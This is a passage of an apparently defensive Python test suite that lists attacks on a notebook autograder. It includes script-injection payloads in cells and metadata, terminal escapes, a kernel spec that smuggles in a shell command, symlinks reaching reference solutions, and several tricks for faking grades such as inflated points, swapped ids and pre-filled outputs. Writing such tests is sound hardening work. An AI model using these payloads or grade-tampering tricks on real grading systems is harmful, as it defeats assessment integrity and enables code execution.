publish_display_data({"text/vnd.mermaid": "</pre><script>owned()</script>", "text/plain": "x"})
raise ValueError("<script>owned()</script>")
""",
    ),
    Attack(
        "script in texts",
        "Markdown cells, attachments and notebook metadata with script",
        change=lambda nb: (
            nb.cells.append(
                new_markdown_cell(
                    "<script>owned()</script><img src=x onerror=owned()> [x](javascript:owned()) ![a](attachment:a.svg)"
                    "<iframe src='javascript:owned()'></iframe><svg/onload=owned()> <a href='data:text/html,<script>owned()</script>'>x</a>",
                    attachments={
                        "a.svg": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'/>"}
                    },
                )
            ),
            nb.metadata.update(
                title="<script>owned()</script>",
                authors=[{"name": "<script>owned()</script>"}],
                widgets={
                    "application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>owned()</script>"}}
                },
            ),
        ),
        unseen="HTML in a text cell is common; the feedback is sanitised",
    ),
    Attack(
        "names that break a page",
        "class and file names, error messages and results with HTML and terminal escapes in them",
        answers={
            "doubled": """
Evil = type("<script>owned()</script>\\x1b[2J", (Exception,), {})

def doubled(x):
    raise Evil("<script>owned()</script>\\x1b]0;owned\\x07")
""",
            "same_block": "def same_block(a, b):\n    return type('<img src=x onerror=owned()>', (), {'__bool__': lambda s: 1 / 0})()",
        },
        files={"<script>owned()<": "x", "\x1b[2Jname": "x"},
    ),
    # -------------------------------------------------------------------------------------------- the notebook's own data
    Attack(
        "points",
        "the check cell says that it is worth 1000 points",
        change=lambda nb: check_cell(nb, "doubled").metadata.nbgrader.update(points=1000),
        unseen="put back silently: an editor cannot be told from an attack",
    ),
    Attack(
        "a graded cell of its own",
        "an invented check with an output of 50 points",
        change=lambda nb: nb.cells.append(_invented()),
    ),
    Attack(
        "exchanged ids",
        "the right answer's check is handed in under the id of another",
        earns=HONEST | {"plus_one": 0.0},
        change=lambda nb: _exchange(nb),
    ),
    Attack(
        "answers as checks",
        "answer cells claim to be graded, locked checks to be solutions, schema versions are odd",
        change=lambda nb: [
            cell.metadata.nbgrader.update(
                grade=True, solution=True, locked=False, points=5, schema_version=99, task=True
            )
            for cell in nb.cells
            if "nbgrader" in cell.metadata
        ],
        unseen="put back silently: an editor cannot be told from an attack",
    ),
    Attack(
        "outputs handed in",
        "check cells come with outputs that say full marks",
        change=lambda nb: check_cell(nb, "doubled").update(
            outputs=[new_output("execute_result", data={"text/plain": "2.0"}, execution_count=1)], execution_count=1
        ),
        unseen="a notebook with outputs is what everybody hands in",
    ),
    Attack(
        "skipping tags",
        "tags that keep cells from running or let errors pass",
        change=lambda nb: [
            cell.metadata.update(tags=["skip-execution", "raises-exception", "remove-cell", "remove_input"])
            for cell in nb.cells
        ],
        unseen="tags are the student's own",
    ),
    Attack(
        "kernel with a command",
        "the notebook names a kernel of its own, with a command line",
        change=lambda nb: nb.metadata.update(
            kernelspec={
                "name": "../../evil",
                "display_name": "x",
                "language": "python",
                "argv": ["sh", "-c", "touch ROOT/owned"],
            }
        ),
        unseen="put back silently: many students have a kernel of another name",
    ),
    Attack(
        "links",
        "the notebook's folder holds links to the solutions, to a device and to itself",
        files={
            "more.ipynb": "->ROOT/solutions/09_mini/mini.ipynb",
            "here": "->.",
            "zero": "->/dev/zero",
            "up": "->../../..",
        },
        answers={"doubled": _reads('Path("more.ipynb").read_text() or Path("up").iterdir()')},
        boxed=True,
    ),
    Attack(
        "a link for a notebook",
        "what is handed in is a link to the reference",
        earns={},
        files={NOTEBOOK: "->ROOT/solutions/09_mini/mini.ipynb"},
    ),
]


def _invented() -> NotebookNode:
    cell = new_code_cell("50.0", outputs=[new_output("execute_result", data={"text/plain": "50.0"}, execution_count=1)])
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": False,
        "points": 50,
        "schema_version": 3,
        "solution": False,
        "task": False,
        "cell_type": "code",
    }
    return cell


def _exchange(notebook: NotebookNode) -> None:
    """``plus_one``, which is right, under the ids of ``doubled``."""
    for find in (answer_cell, check_cell):
        one, other = find(notebook, "plus_one"), find(notebook, "doubled")
        one.metadata, other.metadata = copy.deepcopy(other.metadata), copy.deepcopy(one.metadata)


def with_places(attack: Attack, **places: object) -> Attack:
    """The attack with ROOT, HOME and PORT filled in."""

    def fill(text: str) -> str:
        for word, value in places.items():
            text = text.replace(word, str(value))
        return text

    return Attack(
        **{
            **vars(attack),
            "first": fill(attack.first),
            "last": fill(attack.last),
            "answers": {name: fill(text) for name, text in attack.answers.items()},
            "files": {name: fill(text) for name, text in attack.files.items()},
            "change": attack.change,
        }
    )
